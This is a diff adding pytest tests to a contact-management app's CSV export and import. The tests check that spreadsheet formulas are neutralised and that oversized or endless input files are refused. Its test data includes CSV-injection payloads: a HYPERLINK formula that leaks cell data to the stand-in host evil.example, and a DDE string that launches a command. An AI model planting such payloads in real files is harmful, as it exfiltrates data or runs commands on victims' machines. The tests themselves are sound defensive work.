@@ -105,3 +105,104 @@ def test_export_then_import_loses_nothing() -> None:
 
 def _fields(person) -> dict:
     return {name: getattr(person, name) for name in person.__dataclass_fields__}
+
+
+# -- formula-safe exports, bounded reads --------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&B2,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''=twice",
+    "'Tis the season",
+    "O'Neil",
+    "+44 20 7946 0000",
+]
+
+
+def _typed(text: str) -> dict[str, str]:
+    """A person with `text` typed into every free-text field."""
+    return {
+        "name": f"N {text}",
+        "side": "partner",
+        "title": text,
+        "organisation": text,
+        "function": text,
+        "phone": text[:60],
+        "roles": text,
+        "notes": text,
+    }
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_cells_a_spreadsheet_would_run_are_inert_and_read_back_as_typed(text: str) -> None:
+    """OWASP's rule: no exported cell starts with =, +, -, @, tab or CR unless behind a
+    quote; the import gives back exactly what typing the same text into the form gives (a
+    genuine leading quote included)."""
+    import csv
+    import io
+
+    from alliance_desk.core.stakeholders import validate_person_on_alliance
+
+    person, details = validate_person_on_alliance(_typed(text))
+    stakeholder = Stakeholder(
+        id=1, alliance_id=1, person=Person(id=1, **_fields(person)), details=details
+    )
+    exported = people_to_csv([stakeholder])
+    cells = [cell for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"))) for cell in row]
+    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells), cells
+    assert parse_people_csv(exported) == [(person, details)]
+
+
+def test_a_hand_made_quote_before_a_formula_is_read_as_the_spreadsheet_shows_it() -> None:
+    """A cell typed as '=1+1 (the quote Excel uses to mean text) imports as =1+1; a quote
+    before anything else stays."""
+    ((person, details),) = parse_people_csv(
+        rows_of("name,side,title,notes\nAda,partner,'=1+1,'Tis\n")
+    )
+    assert person.title == "=1+1" and details.notes == "'Tis"
+
+
+def test_a_huge_file_is_refused_from_its_size_without_reading_it(tmp_path) -> None:
+    """A 3 GB file (sparse: no disk used) is refused at once: nothing is read into memory."""
+    import tracemalloc
+
+    from alliance_desk.core.people_csv import read_people_file
+
+    huge = tmp_path / "huge.csv"
+    with huge.open("wb") as handle:
+        handle.truncate(3 * 1024**3)
+    tracemalloc.start()
+    with pytest.raises(ImportRejected, match="larger than 20 MB"):
+        read_people_file(huge)
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert peak < 1024**2
+
+
+def test_an_endless_device_is_refused_at_the_limit(tmp_path) -> None:
+    """/dev/zero (or a pipe that never ends) is read only up to the 20 MB limit, then
+    refused; never more than the limit is held in memory."""
+    import tracemalloc
+
+    from alliance_desk.core.people_csv import MAX_BYTES, read_people_file
+
+    tracemalloc.start()
+    with pytest.raises(ImportRejected, match="larger than 20 MB"):
+        read_people_file("/dev/zero")
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert peak < 2.5 * MAX_BYTES
+
+
+def test_a_missing_file_or_a_folder_says_so(tmp_path) -> None:
+    from alliance_desk.core.people_csv import Unreadable, read_people_file
+
+    with pytest.raises(Unreadable, match="no such file"):
+        read_people_file(tmp_path / "nothing.csv")
+    with pytest.raises(Unreadable, match="folder"):
+        read_people_file(tmp_path)
